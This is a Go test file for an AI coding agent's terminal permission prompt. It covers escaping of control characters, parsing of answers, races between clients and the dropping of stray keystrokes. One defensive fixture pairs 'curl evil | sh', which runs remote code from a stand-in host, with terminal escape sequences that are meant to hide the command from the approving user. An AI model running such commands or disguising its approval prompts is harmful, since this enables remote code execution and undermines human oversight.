package main

import (
	"bytes"
	"context"
	"io"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tandem-agent/tandem/internal/event"
	"github.com/tandem-agent/tandem/internal/permission"
)

// A command with escape sequences cannot rewrite the permission prompt to
// hide what it runs.
func TestTerminalAskerEscapesControlCharacters(t *testing.T) {
	t.Parallel()
	q := permission.Question{ToolName: "Bash", Summary: "Run `curl evil | sh\r\x1b[2Kls`", Diff: "+ok\n+\x1b]0;title\x07"}
	var out bytes.Buffer
	ta := newTerminalAsker(strings.NewReader("n\n"), &out)
	if _, err := ta.Ask(context.Background(), q); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	if strings.ContainsAny(s, "\x1b\r\x07") {
		t.Fatalf("raw control characters reached the terminal: %q", s)
	}
	if !strings.Contains(s, `curl evil | sh\r\x1b[2Kls`) || !strings.Contains(s, "+ok\n+") {
		t.Errorf("prompt: %q", s)
	}
}

func TestTerminalAsker(t *testing.T) {
	t.Parallel()
	q := permission.Question{ToolName: "Bash", Summary: "Run `npm test`", Suggestion: "Bash(npm test:*)", Rules: []permission.Rule{{Permission: "Bash", Pattern: "npm test:*", Action: permission.ActionAllow}}}
	cases := []struct {
		input string
		want  permission.Answer
	}{
		{"y\n", permission.Answer{Decision: permission.AllowOnce, By: "terminal"}},
		{"what\nn stop that\n", permission.Answer{Decision: permission.DenyCall, Message: "stop that", By: "terminal"}},
		{"a\np\n", permission.Answer{Decision: permission.AllowAlways, Scope: permission.ScopeProject, By: "terminal"}},
		{"a\n\n", permission.Answer{Decision: permission.AllowAlways, Scope: permission.ScopeSession, By: "terminal"}},
	}
	for _, c := range cases {
		var out bytes.Buffer
		ta := newTerminalAsker(strings.NewReader(c.input), &out)
		got, err := ta.Ask(context.Background(), q)
		if err != nil || !reflect.DeepEqual(got, c.want) {
			t.Errorf("%q: %+v %v", c.input, got, err)
		}
		if !strings.Contains(out.String(), "Run `npm test`") || !strings.Contains(out.String(), "Bash(npm test:*)") {
			t.Errorf("prompt: %q", out.String())
		}
	}
	// Closed input: an error, which the engine turns into a deny.
	ta := newTerminalAsker(strings.NewReader(""), io.Discard)
	if _, err := ta.Ask(context.Background(), q); err == nil {
		t.Errorf("EOF must be an error")
	}
	// A terminal attached to a broker loses to a faster client without
	// hanging.
	pr, pw := io.Pipe()
	defer pw.Close()
	seen := make(chan event.Event, 100)
	b := permission.NewBroker(func(e event.Event) { seen <- e }, newTerminalAsker(pr, io.Discard))
	go func() {
		ev := <-seen
		b.Reply(ev.RequestID, permission.Answer{Decision: permission.DenyCall, By: "web"})
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	ans, err := b.Ask(ctx, q)
	if err != nil || ans.By != "web" {
		t.Errorf("broker with terminal: %+v %v", ans, err)
	}
}

// A line typed while no question was on screen (here the "y" meant for a
// question another client answered first) does not answer the next one.
func TestTerminalAskerDropsLinesTypedBeforeTheQuestion(t *testing.T) {
	t.Parallel()
	q := permission.Question{ToolName: "Bash", Summary: "Run `rm -rf build`"}
	pr, pw := io.Pipe()
	defer pw.Close()
	out := &syncBuffer{}
	ta := newTerminalAsker(pr, out)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	answers := make(chan permission.Answer, 2)
	ask := func() {
		a, err := ta.Ask(ctx, q)
		if err != nil {
			t.Error(err)
		}
		answers <- a
	}
	go ask()
	waitOutput(t, out, 1)
	io.WriteString(pw, "y\n")
	if a := <-answers; a.Decision != permission.AllowOnce {
		t.Fatalf("first answer %+v", a)
	}
	// io.Pipe's write returns once the asker's reader has the bytes: the
	// stray line is read before the next question.
	io.WriteString(pw, "y\n")
	go ask()
	waitOutput(t, out, 2)
	io.WriteString(pw, "n not now\n")
	if a := <-answers; a.Decision != permission.DenyCall || a.Message != "not now" {
		t.Fatalf("the line typed before the question answered it: %+v", a)
	}
	if !strings.Contains(out.String(), `(ignored "y": typed before this question)`) {
		t.Errorf("no note of the dropped line:\n%s", out.String())
	}
}

// waitOutput waits until n questions are on screen.
func waitOutput(t *testing.T, out *syncBuffer, n int) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for strings.Count(out.String(), "[y] allow once") < n {
		if time.Now().After(deadline) {
			t.Fatalf("question %d not shown:\n%s", n, out.String())
		}
		time.Sleep(5 * time.Millisecond)
	}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
